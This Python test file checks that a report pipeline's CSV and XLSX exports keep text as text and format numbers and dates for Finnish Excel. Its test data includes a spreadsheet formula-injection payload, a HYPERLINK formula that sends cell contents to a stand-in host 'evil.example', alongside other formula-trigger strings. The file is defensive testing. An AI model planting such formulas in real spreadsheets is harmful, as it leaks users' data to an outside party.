"""Downloads: text from files stays text in CSV and XLSX (no live formulas)."""

from __future__ import annotations

import io
from datetime import date, datetime

import pandas as pd
from openpyxl import load_workbook

from pipeline.report.exports import csv_bytes, xlsx_bytes

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1&B1;"klik")', "=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx"]


def frame():
    return pd.DataFrame({"note": HOSTILE, "value": [1, 2.5, None, -2, 0, 3]})


def test_csv_cells_that_would_be_formulas_are_neutralised():
    text = csv_bytes(frame()).decode("utf-8-sig")
    rows = pd.read_csv(io.StringIO(text), sep=";", dtype=str, keep_default_na=False)
    assert all(v.startswith("'") for v in rows["note"])
    assert rows["value"].tolist() == ["1,0", "2,5", "", "-2,0", "0,0", "3,0"]  # numbers are not neutralised


def test_xlsx_text_cells_are_strings_never_formulas():
    book = load_workbook(io.BytesIO(xlsx_bytes({"data": frame()})))
    sheet = book["data"]
    cells = [sheet.cell(row=r, column=1) for r in range(2, 2 + len(HOSTILE))]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert [c.value for c in cells] == HOSTILE
    assert sheet.cell(row=2, column=2).value == 1 and sheet.cell(row=4, column=2).value is None


def test_csv_is_what_finnish_excel_opens_in_columns():
    """Semicolons, decimal comma, a BOM, ISO dates (issue 12.9)."""
    data = pd.DataFrame({"kunta": ["Heinola"], "osuus": [5.5], "tilanne": [date(2024, 12, 31)], "n": [988]})
    raw = csv_bytes(data)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig").splitlines() == ["kunta;osuus;tilanne;n", "Heinola;5,5;2024-12-31;988"]
    back = pd.read_csv(io.BytesIO(raw[3:]), sep=";", decimal=",")
    assert back.loc[0, "osuus"] == 5.5 and back.loc[0, "n"] == 988


def test_xlsx_numbers_have_the_decimals_shown_and_dates_are_dates():
    data = pd.DataFrame(
        {
            "osuus": [5.5, 7.8],
            "etäisyys": [0.17, 0.2],
            "vuosi": pd.array([2024, 2024], dtype="Int64"),
            "tilanne": [date(2024, 12, 31), None],
            "arvo": [5.5, 0.05],
        }
    )
    book = load_workbook(io.BytesIO(xlsx_bytes({"d": data}, {"etäisyys": 2, "arvo": None}, "fi")))
    sheet = book["d"]
    share, distance, year, day, value = sheet[2]
    assert share.value == 5.5 and share.number_format == "0.0"
    assert distance.value == 0.17 and distance.number_format == "0.00" and sheet["B3"].number_format == "0.00"
    assert year.value == 2024 and year.data_type == "n" and year.number_format == "0"
    assert day.is_date and day.value == datetime(2024, 12, 31) and day.number_format == "d.m.yyyy"
    assert sheet["D3"].value is None
    assert value.number_format == "0.0" and sheet["E3"].number_format == "0.00"
    assert [c.data_type for c in sheet[1]] == ["s"] * 5
